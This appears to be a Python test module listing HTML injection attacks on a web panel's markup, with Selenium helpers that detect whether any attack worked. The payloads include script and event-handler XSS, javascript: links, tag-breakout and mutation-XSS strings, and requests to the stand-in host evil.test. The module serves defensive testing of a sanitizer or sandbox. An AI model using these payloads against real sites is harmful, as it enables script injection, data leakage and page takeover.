"""Attacks that a panel's markup may try, each with something harmless, and the proof that one succeeded."""

from __future__ import annotations

import contextlib
from pathlib import Path
from typing import Final, Literal

import attrs
from pages.browser import Browser
from selenium.common.exceptions import WebDriverException
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

PIXEL: Final = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
HARMLESS: Final = (
    "<style>.calm b { color: rgb(4, 5, 6) }</style>"
    '<p class="calm" style="color: rgb(1, 2, 3)">load <b>0.42</b></p>'
    f'<img class="calm" width="40" height="10" alt="a graph" src="{PIXEL}">'
)
"""Harmless parts of a graph: text, inline style, an embedded picture."""

_SCRIPT: Final = (
    "document.documentElement.dataset.owned=1;parent.postMessage('owned','*');"
    "try{top.owned=1;top.document.title='owned'}catch(e){}"
)
_TAG: Final = f"<script>{_SCRIPT}</script>"
_COVER: Final = "position:fixed;inset:0;z-index:2147483647;background:red"


@attrs.frozen
class Attack:
    """Attack by a fragment of HTML.

    Attributes:
        deed: the victim's action on the element with the id ``lure``.
        alone: how it must come into a page without protection to succeed there: while that is parsed, parsed
            a second time from what the first time made of it, or inserted into the page when it is there.
    """

    name: str
    html: str
    deed: Literal["", "click", "enter"] = ""
    alone: Literal["parsed", "parsed twice", "inserted"] = "parsed"

    def __str__(self) -> str:
        return self.name

    def provoke(self, browser: Browser) -> None:
        """Fall for it, in the frame that the browser is switched to; a lure that is gone tempts nobody."""
        if not self.deed:
            return
        for lure in browser.driver.find_elements(By.ID, "lure"):
            with contextlib.suppress(WebDriverException):  # nothing to click on is well as well
                if self.deed == "click":
                    lure.click()
                else:
                    lure.send_keys(Keys.ENTER)


def _link(rel: str, rest: str = 'href="http://evil.test/link"') -> str:
    return f'<link rel="{rel}" {rest}>'


ATTACKS: Final = (
    Attack("script", _TAG),
    Attack("script from elsewhere", '<script src="http://evil.test/x.js"></script>'),
    Attack("module script", '<script type="module">import "http://evil.test/x.mjs"</script>'),
    Attack("image", '<img src="http://evil.test/img">'),
    Attack("encrypted image", '<img src="https://evil.test/img">'),
    Attack("image of this machine", '<img src="http://127.0.0.1:8080/img">'),
    Attack("image set", '<img srcset="http://evil.test/a 1x, http://evil.test/b 2x">'),
    Attack("image error", f'<img src="data:," onerror="{_SCRIPT}">'),
    Attack("end of the frame", f"</iframe>{_TAG}"),
    Attack("end of a script", f"</script>{_TAG}"),
    Attack("end of a template", f"</template>{_TAG}"),
    Attack("end of a style", f"</style></title></textarea></noscript>{_TAG}"),
    Attack("end of a comment", f"-->]]>{_TAG}"),
    Attack("script in a comment", f"<!--<script><script>--></script>{_TAG}"),
    Attack("end of the attribute", f"&quot;\"'>{_TAG}"),
    Attack("end of the page", f"</body></html>{_TAG}"),
    Attack("script link", f'<a id="lure" href="javascript:{_SCRIPT}">more</a>', "click"),
    Attack(
        "script link to the top", f'<a id="lure" target="_top" href="javascript:{_SCRIPT}">more</a>', "click"
    ),
    Attack("link", '<a id="lure" href="http://evil.test/link">more</a>', "click"),
    Attack("link to the top", '<a id="lure" target="_top" href="http://evil.test/link">more</a>', "click"),
    Attack("link to a window", '<a id="lure" target="_blank" href="http://evil.test/link">more</a>', "click"),
    Attack(
        "link by keyboard", '<a id="lure" target="_parent" href="http://evil.test/link">more</a>', "enter"
    ),
    Attack("ping", '<a id="lure" href="#x" ping="http://evil.test/ping">more</a>', "click"),
    Attack("download", '<a id="lure" download="owned.txt" href="data:text/plain,owned">more</a>', "click"),
    Attack(
        "area",
        '<img usemap="#m" alt="x" width="9" height="9" src="data:,"><map name="m"><area id="lure" '
        'alt="x" coords="0,0,9,9" shape="rect" href="http://evil.test/area"></map>',
        "enter",
    ),
    Attack(
        "form", '<form action="http://evil.test/form"><input id="lure" name="q" value="1"></form>', "enter"
    ),
    Attack(
        "form to the top",
        '<form action="http://evil.test/form" method="post" target="_top"><input id="lure" name="q"></form>',
        "enter",
    ),
    Attack(
        "form's button",
        '<form><button id="lure" formaction="http://evil.test/button">go</button></form>',
        "click",
    ),
    Attack("refresh", '<meta http-equiv="refresh" content="0;url=http://evil.test/refresh">'),
    Attack(
        "refresh to a script", f'<meta http-equiv="refresh" content="0;url=http://evil.test/refresh">{_TAG}'
    ),
    Attack("base", '<base href="http://evil.test/" target="_top"><img src="relative">'),
    Attack("preload", _link("preload", 'as="image" href="http://evil.test/link"')),
    Attack("module preload", _link("modulepreload")),
    Attack("prefetch", _link("prefetch")),
    Attack("preconnect", _link("preconnect", 'href="https://evil.test/"')),
    Attack(
        "preconnect in a shadow tree",
        '<div><template shadowrootmode="open">'
        + _link("preconnect", 'href="https://evil.test/"')
        + "</template></div>",
    ),
    Attack(
        "preconnect that mutates",
        "<form><math><mtext></form><form><mglyph><style></math>"
        + _link("preconnect", 'href="https://evil.test/"'),
        alone="parsed twice",
    ),
    Attack("style sheet", _link("stylesheet")),
    Attack("icon", _link("icon") + '<img src="http://evil.test/icon">'),
    Attack("manifest", _link("stylesheet manifest")),
    Attack("style import", "<style>@import url(http://evil.test/style)</style>"),
    Attack("style image", '<div style="width:9px;height:9px;background:url(http://evil.test/style)">x</div>'),
    Attack(
        "style font",
        "<style>@font-face{font-family:f;src:url(http://evil.test/font)}i{font-family:f}</style><i>x</i>",
    ),
    Attack(
        "style that covers", f'<div id="cover" style="{_COVER}">Your session is over</div>', alone="inserted"
    ),
    Attack("style of the page", "<style>h1,h2,main,table{display:none !important}</style>", alone="inserted"),
    Attack("svg", f'<svg onload="{_SCRIPT}"></svg>'),
    Attack("svg image", '<svg><image href="http://evil.test/svg" width="9" height="9"/></svg>'),
    Attack("svg use", '<svg><foreignObject><img src="http://evil.test/svg"></foreignObject></svg>'),
    Attack(
        "animated link",
        '<svg width="90" height="20"><a id="lure"><set attributeName="href" to="http://evil.test/set"/>'
        '<text y="15">more</text></a></svg>',
        "click",
    ),
    Attack("object", '<object data="http://evil.test/object"></object>'),
    Attack("embed", '<embed src="http://evil.test/embed">'),
    Attack(
        "video",
        '<video poster="http://evil.test/poster" src="http://evil.test/video" autoplay muted></video>',
    ),
    Attack("audio", '<audio src="http://evil.test/audio" preload="auto" autoplay></audio>'),
    Attack("input image", '<input type="image" alt="x" src="http://evil.test/input">'),
    Attack("table background", '<table background="http://evil.test/table"><tr><td>x</td></tr></table>'),
    Attack("frame", '<iframe src="http://evil.test/frame"></iframe>'),
    Attack(
        "frame in a frame",
        "<iframe srcdoc=\"<script>top.owned=1;top.postMessage('owned','*')</script>"
        '<img src=http://evil.test/inner>"></iframe>',
    ),
    Attack("frame with a script link", f'<iframe src="javascript:{_SCRIPT}"></iframe>'),
    Attack("window", "<script>open('http://evil.test/window')</script>"),
    Attack("top location", "<script>top.location='http://evil.test/top'</script>"),
    Attack("focus", f'<input autofocus onfocus="{_SCRIPT}">'),
    Attack("toggle", f'<details open ontoggle="{_SCRIPT}"><summary>x</summary></details>'),
    Attack(
        "animation",
        f'<style>@keyframes k{{from{{left:0}}}}</style><b style="animation:k 1s" '
        f'onanimationstart="{_SCRIPT}">x</b>',
    ),
)

CONTROLS: Final = frozenset(
    {
        "script",
        "image",
        "image error",
        "link",
        "download",
        "form",
        "refresh",
        "base",
        "preconnect that mutates",
        "style import",
        "style that covers",
        "svg",
        "frame in a frame",
        "window",
    }
)
"""Names of attacks, one of each kind: together they do every harm and come into the page in every way."""


_LISTEN: Final = """
window.heard = 0;
window.addEventListener("message", () => { window.heard += 1; });
window.titled = document.title;
window.placed = location.href;
"""
_HARMS: Final = """
const found = [];
if (window.owned !== undefined || window.heard) found.push("a script ran");
if (document.documentElement.dataset.owned) found.push("a script ran in the page");
if (document.title !== window.titled) found.push("the title changed");
if (location.href !== window.placed) found.push("the page went elsewhere");
return found;
"""
_OUTSIDE: Final = """
scrollTo(0, 0);
const whole = document.documentElement;
const places = [];
for (const element of whole.querySelectorAll("body, body *:not(script):not(iframe)")) {
  element.scrollLeft = element.scrollTop = 0;
}
for (const element of whole.querySelectorAll("body, body *:not(script):not(iframe)")) {
  const box = element.getBoundingClientRect();
  places.push([element.localName, box.x, box.y, box.width, box.height].join(" "));
}
for (const heading of document.querySelectorAll("h1, h2")) {
  const box = heading.getBoundingClientRect();
  const there = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
  places.push(heading.textContent + (there === null || heading.contains(there) ? " is seen" : " is covered"));
}
const copy = whole.cloneNode(true);
for (const data of copy.querySelectorAll("iframe, script")) data.remove();
return copy.outerHTML + "\\n" + places.join("\\n");
"""


def watch(browser: Browser) -> None:
    """Begin to watch the page that is open for `harms`."""
    browser.run(_LISTEN)


def outside(browser: Browser) -> str:
    """All of the page but what is in its frames, and where each element lies in a window at its top."""
    there: str = browser.run(_OUTSIDE)
    return there


def harms(browser: Browser, scratch: Path, before: str | None = None) -> set[str]:
    """Return the effects of attacks so far, in words; empty if there are none.

    Args:
        before: what `outside` should give, if that is to be compared.
    """
    found: set[str] = set()
    if len(browser.driver.window_handles) > 1:
        found.add("a window opened")
    found.update(f"a request left: {line}" for line in browser.left(scratch))
    found.update(browser.run(_HARMS))
    found.update(f"a file was saved: {file.name}" for file in browser.downloads.iterdir())
    if before is not None and before != outside(browser):
        found.add("the page around it changed")
    return found
